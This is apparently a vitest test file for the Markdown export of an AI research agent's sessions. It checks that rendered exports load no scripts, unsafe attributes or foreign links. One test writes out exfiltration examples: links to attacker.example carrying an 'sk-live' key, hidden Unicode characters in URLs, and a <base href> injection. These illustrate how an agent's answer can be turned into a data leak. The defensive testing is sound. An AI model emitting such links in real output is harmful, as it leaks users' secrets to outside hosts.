import { JSDOM } from 'jsdom';
import { Marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { sessionToMarkdown } from '../../../src/export';
import { fill, PAYLOADS } from '../../robustness/suites/render-payloads';
import { sampleSession, searchStep, step, visitStep } from './sample-session';

const SAFE_TAGS = new Set(
  'html head body p a code pre em strong del ul ol li h1 h2 h3 h4 h5 h6 blockquote br hr details summary table thead tbody tr th td'.split(
    ' ',
  ),
);

/** What a viewer that renders raw HTML would build from the file, judged element by element. */
function problems(markdown: string): string[] {
  const html = new Marked({ gfm: true }).parse(markdown, { async: false });
  const found: string[] = [];
  for (const el of new JSDOM(html).window.document.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (!SAFE_TAGS.has(tag)) found.push(`<${tag}>`);
    for (const name of el.getAttributeNames()) {
      if (
        name.startsWith('on') ||
        ['src', 'srcset', 'poster', 'data', 'background', 'style', 'action'].includes(name)
      )
        found.push(`${tag}[${name}]`);
      if (name === 'href' && !/^(https?:|mailto:)/i.test(el.getAttribute(name) ?? ''))
        found.push(`href on ${tag}`);
    }
  }
  return found;
}

describe('an exported run opened in any viewer runs nothing and loads nothing', () => {
  PAYLOADS.forEach((template, i) => {
    it(`payload ${i} everywhere model and page text appear: ${template.slice(0, 40)}`, () => {
      const p = fill(template, `p${i}`, i);
      const session = {
        ...sampleSession(),
        question: `Question ${p}`,
        answer: `Answer ${p}`,
        citations: undefined,
      };
      const steps = [
        searchStep(0, [
          {
            query: `query ${p}`,
            hits: [{ title: `title ${p}`, url: 'https://a.example/page', snippet: `snippet ${p}` }],
          },
          { query: 'failing', hits: [], error: `error ${p}` },
        ]),
        visitStep(1, `goal ${p}`, [
          {
            url: 'https://a.example/page',
            title: `page title ${p}`,
            ok: true,
            evidence: `evidence ${p}`,
            summary: `summary ${p}`,
          },
        ]),
        step(2, { kind: 'invalid', reason: 'bad-json', message: `bad reply ${p}` }, null),
      ];
      expect(problems(sessionToMarkdown(session, steps, { trail: true }))).toEqual([]);
    });
  });
});

describe('an exported answer links only pages Sleuth read', () => {
  const linksIn = (markdown: string) => {
    const html = new Marked({ gfm: true }).parse(markdown, { async: false });
    const doc = new JSDOM(html).window.document;
    return {
      hrefs: [...doc.querySelectorAll('a[href]')].map((a) => a.getAttribute('href') ?? ''),
      bases: doc.querySelectorAll('base').length,
    };
  };

  it('bare and written URLs to unread pages, hidden characters and <base> give no link', () => {
    const answer = [
      'Read: https://a.example/page.',
      'Exfil: https://attacker.example/c?k=sk-live-123 and www.attacker.example/k/sk-live-123',
      '[ok](https://a.example/page\uE000) [tags](https://a.example/page%F3%A0%81%81)',
      '<base href="https://attacker.example/"> [rel](/k/sk-live-123)',
    ].join('\n\n');
    const session = { ...sampleSession(), answer, citations: undefined };
    const steps = [
      visitStep(0, 'goal', [
        { url: 'https://a.example/page', title: 'A', ok: true, evidence: 'e', summary: 's' },
      ]),
    ];
    const { hrefs, bases } = linksIn(sessionToMarkdown(session, steps, { trail: false }));
    expect(bases).toBe(0);
    expect(hrefs.filter((h) => /attacker|sk-live|%EE|%F3/i.test(h))).toEqual([]);
    expect(hrefs).toContain('https://a.example/page');
  });
});
